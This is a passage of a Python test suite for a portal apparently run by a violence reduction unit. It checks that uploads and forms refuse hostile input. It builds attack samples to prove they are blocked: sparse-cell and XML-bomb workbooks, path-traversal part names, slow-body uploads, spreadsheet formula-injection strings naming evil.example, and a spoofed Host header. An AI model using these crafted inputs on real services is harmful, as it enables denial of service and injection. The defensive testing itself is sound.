    assert sorted(got) == sorted([lead_org, partner_org])


def test_small_things_the_second_probe_found(url):
    from vrukit.csvio import neutralise
    from vrukit.web.portal.web import upload_name

    c = _client(url, rate_limit=RateLimit(per_client=100, per_account=5))
    token = _sign_in(c, ADMIN)
    # ids past 2**63 in a path: no such page, not a server error
    for path in ("/interventions/9223372036854775808", "/returns/99999999999999999999"):
        assert c.get(path).status_code == 404, path
    # a formula after a line break inside a cell
    assert neutralise("PC\n=HYPERLINK(1)") == "PC\n'=HYPERLINK(1)"
    # a right-to-left override in a file name
    assert upload_name("x\u202egpj.csv", ".csv") == "xgpj.csv"
    # numbers in the set-up forms: ASCII decimals only, never inf or nan
    iid = _own_intervention(url)
    for bad in ("inf", "1e999", "nan", "1_000", "\u0663"):
        r = c.post(f"/interventions/{iid}/theory", data={"stage": "activity", "text": "x",
                                                         "indicator": "y", "target": bad,
                                                         "csrf_token": token})  # fmt: skip
        assert r.status_code == 422, bad
    # guessing the current password on the password page is limited like signing in
    codes = [c.post("/account/password", data={"current": f"guess-{k}", "new": "x" * 12,
                                               "csrf_token": token}).status_code
             for k in range(7)]  # fmt: skip
    assert codes == [403] * 5 + [429] * 2, codes


def test_the_upload_helper_ends_when_its_server_is_killed(tmp_path):
    """A server killed outright (SIGKILL, an out-of-memory kill) must not leave its helper
    process running as an orphan, holding its memory (benchmark runs had left two)."""
    import os
    import subprocess
    import sys

    script = (
        "import os, sys\n"
        "from vrukit.web.portal import offload\n"
        "print(offload._pool().submit(os.getpid).result(), flush=True)\n"
        "os._exit(0)\n"  # gone at once: no clean shutdown of the pool
    )
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                         timeout=120, check=True)  # fmt: skip
    helper = int(out.stdout.strip())
    for _ in range(150):
        try:
            os.kill(helper, 0)
        except ProcessLookupError:
            break
        time.sleep(0.2)
    else:
        os.kill(helper, 9)
        pytest.fail("the helper outlived its server by 30 s")


def test_uploads_past_the_bound_are_refused_at_once_and_an_account_has_one_at_a_time(url):
    """What uploads one server holds is bounded: with room for one upload of the largest size,
    a held upload sent without a length fills it, so a second account's upload is refused
    with 503 and a time to try again, and the first account's second upload with 429, both
    before the held one has finished arriving. When it has been stored, the next is taken (on
    the old code both waited for it, each holding its file on disk, without bound). A burst of
    ordinary returns fits (the burst test below)."""
    release = threading.Event()
    app = create_app(url, secret_key=SECRET, guard=Guard(uploads_at_once=1))
    iid = _own_intervention(url)
    with serve(app) as root:
        first, token = _live_sign_in(root, BOXING)
        held = httpx.Request("POST", f"{root}/interventions/{iid}/returns",
                             data={"csrf_token": token, "period": "2022-Q3"},
                             files={"file": ("q3.csv", GOOD.encode(), "text/csv")})  # fmt: skip
        whole = held.read()

        def slowly():
            yield whole[:100]
            assert release.wait(60)
            yield whole[100:]

        answer: dict[str, httpx.Response] = {}

        def send_held() -> None:
            answer["first"] = first.post(held.url, content=slowly(), headers={
                "content-type": held.headers["content-type"]})  # fmt: skip

        t = threading.Thread(target=send_held)
        t.start()
        try:
            time.sleep(0.5)  # the held upload has been taken
            again = _upload(first, token, iid, "again.csv", GOOD.encode(), "2022-Q4")  # 429
            other, other_token = _live_sign_in(root, ADMIN)
            started = time.monotonic()
            busy = _upload(other, other_token, iid, "other.csv", GOOD.encode(), "2022-Q4")
            waited = time.monotonic() - started
        finally:
            release.set()
            t.join(60)
        after = _upload(first, token, iid, "after.csv", GOOD.encode(), "2022-Q4")
        first.close()
        other.close()
    assert again.status_code == 429 and "still being checked" in again.text
    assert busy.status_code == 503 and busy.headers["retry-after"] == "60"
    assert waited < 5, "the refusal waited for the held upload"
    assert answer["first"].status_code == 303, answer["first"].text[-300:]
    assert after.status_code == 303, after.text[-300:]
    assert _submissions_for(url, "2022-Q3") == 1 and _submissions_for(url, "2022-Q4") == 1


def _submissions_for(url: str, period: str) -> int:
    with Session(engine(url)) as s:
        q = select(func.count()).select_from(ReturnSubmission).where(
            ReturnSubmission.period == period)  # fmt: skip
        return s.scalar(q) or 0


# -- the fourth probe ------------------------------------------------------------------------------


def _sparse_xlsx(far: str) -> bytes:
    """A 2 KB workbook whose one sheet has a cell at A1 and one at ``far`` (XFD1048576: the
    reader would allocate the whole rectangle, hundreds of gigabytes)."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws["A1"], ws[far] = "participant_ref", "x"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_a_sheet_whose_cells_reach_far_past_a_return_is_refused_unread(url):
    """A cell at XFD1048576 took the upload helper to a 512 GiB allocation and killed it; a
    cell at F1048576 cost 40 s of reading before the row limit was checked. Both are refused
    from the cells' references, in a fraction of a second, and the next upload works."""
    c = _client(url)
    token = _sign_in(c, BOXING)
    iid, before = _own_intervention(url), _submissions(url)
    for far, what in (("XFD1048576", "column 16,384"), ("F1048576", "row 1,048,576")):
        started = time.monotonic()
        r = c.post(f"/interventions/{iid}/returns", data={"csrf_token": token,
                   "period": "2022-Q1"}, files={"file": ("s.xlsx", _sparse_xlsx(far),
                   "application/zip")})  # fmt: skip
        assert r.status_code == 422 and what in r.text, r.text[-400:]
        assert time.monotonic() - started < 5
    assert _submissions(url) == before
    assert _upload(c, token, iid, "ok.csv", GOOD.encode()).status_code == 303


def test_a_csv_with_a_very_wide_header_is_refused_before_it_is_parsed(url):
    """200,000 columns in a header took 1.15 GB and 30 s: now refused from its first line."""
    c = _client(url)
    token = _sign_in(c, BOXING)
    wide = (",".join(f"c{k}" for k in range(200_000)) + "\n").encode()
    started = time.monotonic()
    r = _upload(c, token, _own_intervention(url), "wide.csv", wide)
    assert r.status_code == 422 and "more than 200 columns in a line" in r.text
    assert time.monotonic() - started < 5 and len(r.content) < 20_000


def _crash(*_args):  # runs in the upload helper: it dies as the out-of-memory killer would
    import os

    os._exit(9)


def test_the_helper_dying_on_a_file_refuses_that_file_and_the_next_upload_works(url):
    """A helper that died (a reader aborting, the system killing it) left every later upload on
    that server answering 500 until a restart; now that file is refused and a new helper takes
    the next."""
    from vrukit.web.portal import offload

    outcome = offload._in_helper(url, _crash)
    assert outcome.problems and "stopped the checker" in outcome.problems[0].message
    app = create_app(url, secret_key=SECRET)
    with serve(app) as root:
        c, token = _live_sign_in(root, BOXING)
        r = _upload(c, token, _own_intervention(url), "after.csv", GOOD.encode(), "2022-Q3")
        c.close()
    assert r.status_code == 303, r.text[-300:]


def test_a_stranger_takes_no_room_and_a_slow_body_is_cut_off(url):
    """Without an account, eight connections sending a byte every 5 s held every upload room
    for as long as they liked. Uploads now need a signed-in session before any room is given,
    and a body that takes longer than ``upload_seconds`` is refused (408) and its room freed."""
    app = create_app(url, secret_key=SECRET, guard=Guard(uploads_at_once=1, upload_seconds=2))
    iid = _own_intervention(url)
    with serve(app) as root:
        anon = httpx.Client(base_url=root, timeout=30)
        r = anon.post(f"/interventions/{iid}/returns", files={"file": ("a.csv", b"x", "text/csv")},
                      data={"period": "2022-Q1"})  # fmt: skip
        assert r.status_code == 403 and "sign in" in r.text
        c, token = _live_sign_in(root, BOXING)
        whole = httpx.Request("POST", f"{root}/interventions/{iid}/returns",
                              data={"csrf_token": token, "period": "2022-Q3"},
                              files={"file": ("q3.csv", GOOD.encode(), "text/csv")})  # fmt: skip
        body = whole.read()

        def dribble():
            yield body[:50]
            time.sleep(4)  # longer than the two seconds allowed
            yield body[50:]

        started = time.monotonic()
        slow = c.post(whole.url, content=dribble(),
                      headers={"content-type": whole.headers["content-type"]})  # fmt: skip
        assert slow.status_code == 408, slow.text[-300:]
        assert time.monotonic() - started < 10
        assert _upload(c, token, iid, "q3.csv", GOOD.encode(), "2022-Q3").status_code == 303
        c.close()
        anon.close()


def test_the_returns_pages_count_rows_in_the_store_and_show_a_page_of_them(url):
    """/returns loaded every row of every return to count them (minutes, then the worker was
    killed, on 3 million rows); a return's page printed all 100,000 rows. Now the rows are
    counted in the store and the page shows the first 500."""
    c = _client(url, guard=Guard(return_max_rows=1_000_000))
    token = _sign_in(c, BOXING)
    iid = _own_intervention(url)
    rows = "".join(f"P{k},15,school,yes,4,no\n" for k in range(2_000))
    r = _upload(c, token, iid, "big.csv", (HEADER + rows).encode(), "2022-Q4")
    assert r.status_code == 303
    page = c.get(r.headers["location"])
    assert "2,000 rows: the first 500 shown" in page.text
    assert page.text.count("<tr><td>") == 500
    assert "2,000" in c.get("/returns").text


def test_small_things_the_fourth_probe_found(url, tmp_path):
    """Formulas in a template's field names, labels and choices; a listing change of 900 KB and
    a verifier's queue without end; an import workbook with a bad kind (a raw SQL traceback)
    or a 100,000-character name; framework JSON for unknown paths and malformed ids."""
    from vrukit.programme.exchange import export_registry, import_registry
    from vrukit.programme.returns import fields_of

    formula = {"name": '=HYPERLINK("http://evil.example")', "type": "text"}
    quoted = {"name": "ok", "type": "choice", "allowed": ['a",WEBSERVICE("x"),"b']}
    for bad in (formula, quoted):
        with pytest.raises(ConfigError):
            fields_of([bad])
    c = _client(url)
    token = _sign_in(c, BOXING)
    long = {"csrf_token": token, "name": "Eastford Boxing", "description": "x" * 900_000,
            "status": "active"}  # fmt: skip
    assert c.post("/directory/services/svc-1", data=long).status_code == 422
    for k in range(21):
        r = c.post("/directory/services/svc-1", data={**long, "description": f"change {k}"},
                   follow_redirects=False)  # fmt: skip
    assert r.status_code == 429 and "waiting for a verifier" in r.text
    for path in ("/interventions/abc", "/no-such-page"):
        r = c.get(path)
        assert r.headers["content-type"].startswith("text/html") and r.status_code in (404, 422)
    book = tmp_path / "registry.xlsx"
    with Session(engine(url)) as s:
        export_registry(s, book)
    from openpyxl import load_workbook

    wb = load_workbook(book)
    wb["organisations"].cell(row=2, column=2, value="evil")
    wb.save(book)
    with Session(engine(url)) as s, pytest.raises(InputFileError, match="expected one of"):
        import_registry(s, book)
    wb["organisations"].cell(row=2, column=2, value="provider")
    wb["organisations"].cell(row=2, column=1, value="n" * 100_000)
    wb.save(book)
    with Session(engine(url)) as s, pytest.raises(InputFileError, match="at most 200"):
        import_registry(s, book)


def test_guesses_from_a_shared_address_do_not_lock_out_its_known_browsers(url):
    """Behind one address (a hospital's, a school's), 20 failed sign-ins to unknown e-mails
    locked every colleague out for 15 minutes, even on browsers they had signed in on. A known
    browser now counts only against itself; strangers at that address still wait."""
    app = create_app(url, secret_key=SECRET)
    colleague = TestClient(app, client=("192.0.2.10", 1))
    token = _sign_in(colleague, ANALYST)
    colleague.post("/logout", data={"csrf_token": token})
    guesser = TestClient(app, client=("192.0.2.10", 2))
    for k in range(20):
        assert _login(guesser, (f"nobody{k}@x.org", "guess-guess-guess")).status_code == 401
    assert _login(guesser, ADMIN).status_code == 429  # the address waits, for strangers
    assert _login(colleague, ANALYST).status_code == 303  # not for a browser it knows


def _with_ref(ref: str) -> bytes:
    """The sparse workbook with its far cell's reference spelt ``ref`` (leading zeros, eight
    digits, four letters): spellings the reader takes and a narrow check would miss."""
    src = zipfile.ZipFile(io.BytesIO(_sparse_xlsx("B2")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.endswith("sheet1.xml"):
                data = data.replace(b'r="B2"', f'r="{ref}"'.encode()).replace(
                    b'ref="A1:B2"', b'ref="A1"')  # fmt: skip
            z.writestr(item, data)
    return out.getvalue()


def test_the_fifth_probe_s_ways_round_the_upload_checks_are_closed(url):
    """References spelt with leading zeros, eight digits or four letters; a wide header behind
    a blank line or a row of a million commas; two Content-Type headers (the queue read the
    last, the body parser the first): each refused at once."""
    c = _client(url)
    token = _sign_in(c, BOXING)
    iid = _own_intervention(url)
    for ref in ("A0025000000", "A12345678", "AAAA2"):
        started = time.monotonic()
        r = c.post(f"/interventions/{iid}/returns", data={"csrf_token": token,
                   "period": "2022-Q1"}, files={"file": ("s.xlsx", _with_ref(ref),
                   "application/zip")})  # fmt: skip
        assert r.status_code == 422 and "has cells as far as" in r.text, (ref, r.text[-300:])
        assert time.monotonic() - started < 5
    wide = ",".join(f"c{k}" for k in range(5_000))
    for body in ("\n" + wide + "\n", HEADER + "," * 1_000_000 + "\n"):
        r = _upload(c, token, iid, "w.csv", body.encode())
        assert r.status_code == 422 and "columns in a line" in r.text
    form = httpx.Request("POST", "http://x/", data={"csrf_token": token, "period": "2022-Q1"},
                         files={"file": ("a.csv", GOOD.encode(), "text/csv")})  # fmt: skip
    two = [("content-type", form.headers["content-type"]), ("content-type", "text/plain")]
    r = c.post(f"/interventions/{iid}/returns", content=form.read(), headers=two)
    assert r.status_code == 400 and "one Content-Type" in r.text


def _wide_spend_xlsx(rows: int, extra: int) -> bytes:
    """A spend return as a workbook: the five columns and ``extra`` more, each row's quarter
    malformed, written as SpreadsheetML by hand (inline strings, no shared-strings table)."""

    def col(i: int) -> str:
        s, i = "", i + 1
        while i:
            i, r = divmod(i - 1, 26)
            s = chr(65 + r) + s
        return s

    def text(ref: str, value: str) -> str:
        return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'

    names = ["intervention", "quarter", "amount", "category", "note"]
    names += [f"x{k}" for k in range(extra)]
    body = ['<row r="1">' + "".join(text(f"{col(i)}1", c) for i, c in enumerate(names)) + "</row>"]
    for r in range(2, rows + 2):
        cells = [
            text(f"A{r}", "Resettlement"),
            text(f"B{r}", "2022-Q9"),
            f'<c r="C{r}"><v>10</v></c>',
        ]
        cells += [f'<c r="{col(i)}{r}"><v>1</v></c>' for i in range(5, 5 + extra)]
        body.append(f'<row r="{r}">' + "".join(cells) + "</row>")
    ns = "http://schemas.openxmlformats.org"
    rel = f"{ns}/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{ns}/package/2006/content-types"><Default '
        'Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship '
        f'Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{ns}/spreadsheetml/2006/main" xmlns:r="{rel}">'
        '<sheets><sheet name="Spend" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{ns}/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>",
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{ns}/spreadsheetml/2006/main"><sheetData>'
        + "".join(body) + "</sheetData></worksheet>",
    }  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, xml in parts.items():
            z.writestr(name, '<?xml version="1.0" encoding="UTF-8"?>' + xml)
    return out.getvalue()


def test_a_spend_return_is_checked_outside_the_write_lock(url):
    """The sixth finding (fifth probe): a spend return was read and checked in the server's own
    worker while its request held the store's write lock, so a large one stopped every other
    change. It is now checked in the helper process that checks returns, and stored after. A
    wide workbook of 2,000 rows (a malformed quarter in each) takes seconds to read and check."""
    body = _wide_spend_xlsx(2_000, 150)
    with Session(engine(url)) as s:
        spends_before = s.scalar(select(func.count()).select_from(Spend))
    app = create_app(url, secret_key=SECRET)
    with serve(app) as root:
        up, token = _live_sign_in(root, ADMIN, timeout=300)
        other, other_token = _live_sign_in(root, COMMISSIONER)
        done: dict[str, object] = {}

        def upload() -> None:
            r = up.post("/spend/upload", data={"csrf_token": token},
                        files={"file": ("spend.xlsx", body, "application/zip")})  # fmt: skip
            done["at"], done["status"], done["text"] = time.monotonic(), r.status_code, r.text

        t = threading.Thread(target=upload)
        t.start()
        time.sleep(0.5)
        wrote = other.post(
            "/log",
            data={
                "csrf_token": other_token,
                "kind": "issue",
                "title": "Written while a spend return is checked",
            },
        )
        wrote_at = time.monotonic()
        t.join(300)
        up.close()
        other.close()
    assert wrote.status_code == 303, wrote.text[-300:]
    assert done["status"] == 422 and "Back to spend" in str(done["text"]), done["status"]
    assert wrote_at < done["at"], "a change waited for the spend return to be checked"
    with Session(engine(url)) as s:
        assert s.scalar(select(func.count()).select_from(Spend)) == spends_before


def test_a_good_spend_return_uploaded_is_stored_and_audited(url):
    with Session(engine(url)) as s:
        before = s.scalar(select(func.count()).select_from(Spend))
    c = _client(url)
    token = _sign_in(c, ADMIN)
    body = b"intervention,quarter,amount,category,note\nResettlement,2022-Q1,10,,\n"
    r = c.post("/spend/upload", data={"csrf_token": token}, follow_redirects=False,
               files={"file": ("spend.csv", body, "text/csv")})  # fmt: skip
    assert r.status_code == 303, r.text[-300:]
    with Session(engine(url)) as s:
        assert s.scalar(select(func.count()).select_from(Spend)) == before + 1
        entry = s.scalars(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
        assert (entry.action, entry.table_name, entry.row_key) == ("upload", "spend", "spend.csv")


def test_a_sheet_reaching_a_rectangle_within_each_limit_but_too_large_is_refused_unread(url):
    """The fifth probe: a 1.5 KB XLSX with a cell at GR101001 (column 200, row 101,001) is within
    the column and row limits, yet the reader fills 20 million cells (12 s, 1.4 GB)."""
    c = _client(url)
    token = _sign_in(c, BOXING)
    iid = _own_intervention(url)
    started = time.monotonic()
    r = c.post(f"/interventions/{iid}/returns", data={"csrf_token": token, "period": "2022-Q1"},
               files={"file": ("s.xlsx", _with_ref("GR101001"), "application/zip")})  # fmt: skip
    assert r.status_code == 422 and "a rectangle of 20,200,200 cells" in r.text, r.text[-400:]
    assert time.monotonic() - started < 5


def test_simultaneous_changes_to_one_row_on_postgresql_never_freeze_the_server(request):
    """The sixth probe: on PostgreSQL, five identical posts at once (a double click, a
    scorer's impatient resubmit) froze every worker for good. The handlers waited on a row
    lock on the event loop, where the lock's holder needed to run to commit. Handlers that
    touch the store now run on worker threads, and a lock is waited on for 30 s at most."""
    import uuid

    import psycopg

    server = request.getfixturevalue("postgres_server")
    name = f"t_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(server.replace("postgresql+psycopg", "postgresql"), autocommit=True) as c:
        c.execute(f"CREATE DATABASE {name}")
    url = server.rsplit("/", 1)[0] + f"/{name}"
    app = create_app(url, secret_key=SECRET)
    eng = engine(url)
    with Session(eng) as s:
        s.add(User(email=ADMIN[0], password_hash=hash_password(ADMIN[1]), role="admin"))
        goal = Objective(position=1, title="Fewer young people hurt")
        s.add(goal)
        s.flush()
        s.add(
            Action(objective_id=goal.id, title="Open the hub", owner="VRU", due=date(2022, 6, 30))
        )
        s.commit()
        aid = s.scalars(select(Action.id)).one()
    with serve(app) as root:
        client, token = _live_sign_in(root, ADMIN, timeout=90)
        form = {"csrf_token": token, "status": "at_risk", "note": "slipping"}
        answers: list[int] = []

        def post() -> None:
            answers.append(client.post(f"/plan/actions/{aid}/update", data=form).status_code)

        for _ in range(3):  # the probe's freeze came within three bursts
            burst = [threading.Thread(target=post) for _ in range(8)]
            for t in burst:
                t.start()
            for t in burst:
                t.join(90)
            assert not any(t.is_alive() for t in burst), "a post never came back"
        with httpx.Client(base_url=root, timeout=10) as other:
            assert other.get("/login").status_code == 200
        client.close()
    assert sorted(set(answers)) == [303] and len(answers) == 24, answers
    with Session(eng) as s:
        assert s.scalar(select(func.count()).select_from(ActionUpdate)) == 24
    eng.dispose()


def _with_part(name: str, data: bytes, base: bytes | None = None) -> bytes:
    """The sparse workbook (cells at A1 and B2) with part ``name`` replaced or added."""
    src = zipfile.ZipFile(io.BytesIO(base or _sparse_xlsx("B2")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            if item.filename != name:
                z.writestr(item, src.read(item.filename))
        z.writestr(name, data)
    return out.getvalue()


def test_the_sixth_probe_s_workbooks_are_refused_before_the_reader_sees_them(url):
    """The sixth probe: a byte the checker's XML parser refuses (which the reader skips) made
    the checker count a sheet "up to the error", or skip it, while the reader went on to fill
    300,000 rows of 200 columns (4 GB); and a 430 KB styles part of 9 million elements was
    built whole in the checker's memory (3.7 GB). Every part the reader may parse must now be
    well-formed XML, each is streamed element by element, and a workbook of more than
    MAX_ELEMENTS elements is refused."""
    from vrukit.programme.uploads import MAX_ELEMENTS

    c = _client(url)
    token = _sign_in(c, BOXING)
    iid, before = _own_intervention(url), _submissions(url)
    sheet = zipfile.ZipFile(io.BytesIO(_sparse_xlsx("B2"))).read("xl/worksheets/sheet1.xml")
    at = sheet.index(b"<sheetData>")
    hidden = (
        sheet[:at]
        + b"\x01"
        + sheet[at:].replace(
            b"</sheetData>", b'<row r="300000"><c r="GR300000"><v>1</v></c></row></sheetData>'
        )
    )
    first_byte = b"\x01" + sheet
    bomb = b"<styleSheet>" + b"<a/>" * (MAX_ELEMENTS + 10) + b"</styleSheet>"
    cases = [
        ("xl/worksheets/sheet1.xml", hidden, "is not well-formed XML"),
        ("xl/worksheets/sheet1.xml", first_byte, "is not well-formed XML"),
        ("xl/styles.xml", bomb, f"more than {MAX_ELEMENTS:,} XML elements"),
        ("xl/worksheets/sheet1.xml", b'<?xml version="1.0" encoding="x-no"?>'
         + re.sub(rb"^<\?xml[^>]*\?>", b"", sheet), "is not well-formed XML"),
    ]  # fmt: skip
    for part, data, said in cases:
        started = time.monotonic()
        r = c.post(f"/interventions/{iid}/returns", data={"csrf_token": token,
                   "period": "2022-Q1"}, files={"file": ("s.xlsx", _with_part(part, data),
                   "application/zip")})  # fmt: skip
        assert r.status_code == 422 and said in r.text, (part, r.status_code, r.text[-400:])
        assert time.monotonic() - started < 60
    assert _submissions(url) == before
    assert _upload(c, token, iid, "good.csv", GOOD.encode()).status_code == 303


def test_a_csv_far_past_the_row_limit_is_never_parsed_whole(url):
    """The sixth probe: 11 million two-byte rows were parsed (1.3 GB in each helper) before the
    row limit was looked at. The reader now stops one row past it."""
    c = _client(url)
    token = _sign_in(c, BOXING)
    iid = _own_intervention(url)
    started = time.monotonic()
    r = _upload(c, token, iid, "rows.csv", b"participant_ref\n" + b"1\n" * 11_000_000)
    assert r.status_code == 422 and "more than 100,000 rows" in r.text, r.text[-300:]
    assert time.monotonic() - started < 30


def test_a_return_is_for_a_quarter_of_the_contract_that_has_begun(url):
    """The sixth probe: returns for 0001-Q1, 1950 and 9999-Q4 were accepted (100,000 rows each),
    and every staff page then read them all."""
    c = _client(url)
    token = _sign_in(c, BOXING)
    iid, before = _own_intervention(url), _submissions(url)
    for period, said in (("0001-Q1", ("expected a quarter",)), ("1950-Q1", ("contract starts",)),
                         ("\uff12\uff10\uff12\uff12-Q1", ("expected a quarter",)),
                         ("2099-Q4", ("has not begun", "contract ended"))):  # fmt: skip
        r = _upload(c, token, iid, "good.csv", GOOD.encode(), period=period)
        assert r.status_code == 422 and any(s in r.text for s in said), (period, r.text[-300:])
    assert _submissions(url) == before


def test_the_seventh_probe_s_workbooks_are_refused_or_checked_in_flat_memory(url, tmp_path):
    """The seventh probe: a worksheet stored as ``xl/media/../worksheets/sheet1.xml`` was never
    checked (the checker took it for an image), yet the reader opened it (3.9 GB); and 11.9
    million nested elements took the checker 5.6 GB. Part names must mean what they say, parts
    are parsed by expat handlers with no tree, and nesting past MAX_DEPTH is refused."""
    import resource

    from vrukit.programme.uploads import MAX_DEPTH, _xlsx_text_size

    c = _client(url)
    token = _sign_in(c, BOXING)
    iid, before = _own_intervention(url), _submissions(url)
    base = zipfile.ZipFile(io.BytesIO(_sparse_xlsx("B2")))
    odd = io.BytesIO()
    with zipfile.ZipFile(odd, "w", zipfile.ZIP_DEFLATED) as z:
        for item in base.infolist():
            data = base.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                z.writestr("xl/media/../worksheets/sheet1.xml", data)
                continue
            if item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b'Target="/xl/worksheets/sheet1.xml"',
                                    b'Target="media/../worksheets/sheet1.xml"')  # fmt: skip
                data = data.replace(b'Target="worksheets/sheet1.xml"',
                                    b'Target="media/../worksheets/sheet1.xml"')  # fmt: skip
            z.writestr(item, data)
    deep = b"<d a='1'>" * 1_000_000 + b"</d>" * 1_000_000
    cases = [(odd.getvalue(), "which no workbook program writes"),
             (_with_part("xl/deep.xml", deep), f"more than {MAX_DEPTH} deep")]  # fmt: skip
    for body, said in cases:
        started = time.monotonic()
        form = {"csrf_token": token, "period": "2022-Q1"}
        r = c.post(f"/interventions/{iid}/returns", data=form,
                   files={"file": ("s.xlsx", body, "application/zip")})  # fmt: skip
        assert r.status_code == 422 and said in r.text, r.text[-400:]
        assert time.monotonic() - started < 10
    assert _submissions(url) == before
    # two million flat elements are counted with no tree: the checker's memory stays flat
    flat = tmp_path / "flat.xlsx"
    flat.write_bytes(_with_part("xl/styles.xml", b"<s>" + b"<xf n='1'/>" * 2_000_000 + b"</s>"))
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    _xlsx_text_size(flat, "flat.xlsx")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 100 * 1024  # KiB


def test_an_unforeseen_fault_is_the_portal_s_error_page_with_the_security_headers(url):
    """The thirty-third probe's L4: a fault no handler knows got the framework's bare
    "Internal Server Error", without the CSP, nosniff or frame headers (it is sent from outside
    their middleware). Now it is the portal's page, with them, saying nothing of the fault."""
    app = create_app(url, secret_key=SECRET)

    async def fault() -> None:
        raise RuntimeError("/srv/vrukit/secret/path.py line 12: the fault")

    app.add_api_route("/fault", fault)
    r = TestClient(app, raise_server_exceptions=False).get("/fault")
    assert r.status_code == 500 and r.headers["content-type"].startswith("text/html")
    nonce = re.search(r"'nonce-([^']+)'", r.headers["content-security-policy"]).group(1)
    assert f'nonce="{nonce}"' in r.text and "could not finish this request" in r.text
    assert r.headers["x-frame-options"] == "DENY" and r.headers["cache-control"] == "no-store"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert "secret" not in r.text and "RuntimeError" not in r.text and "/srv" not in r.text


def test_a_deployment_answers_only_to_its_own_host_names(url):
    """The eighteenth probe's L2: redirects and the API's links were built from whatever Host
    a request named. With allowed hosts set, another Host is a 400 and its own work as before;
    the redirect and the API's openapi_url then name only the VRU's host."""
    settings = get_settings().model_copy(update={"allowed_hosts": ["vru.example.org"]})
    app = portal_with_mounts(url, settings, secret=SECRET, migrate=False)
    ours = TestClient(app, base_url="https://vru.example.org")
    theirs = TestClient(app, base_url="https://evil.example")
    assert theirs.get("/youth-map", follow_redirects=False).status_code == 400
    assert theirs.get("/api/").status_code == 400 and theirs.get("/login").status_code == 400
    r = ours.get("/youth-map", follow_redirects=False)
    assert r.status_code in (301, 307) and "vru.example.org" in r.headers["location"]
    assert "evil" not in ours.get("/api/").text and ours.get("/login").status_code == 200
    assert get_settings().allowed_hosts == ["*"]  # any by default: the demo on any address
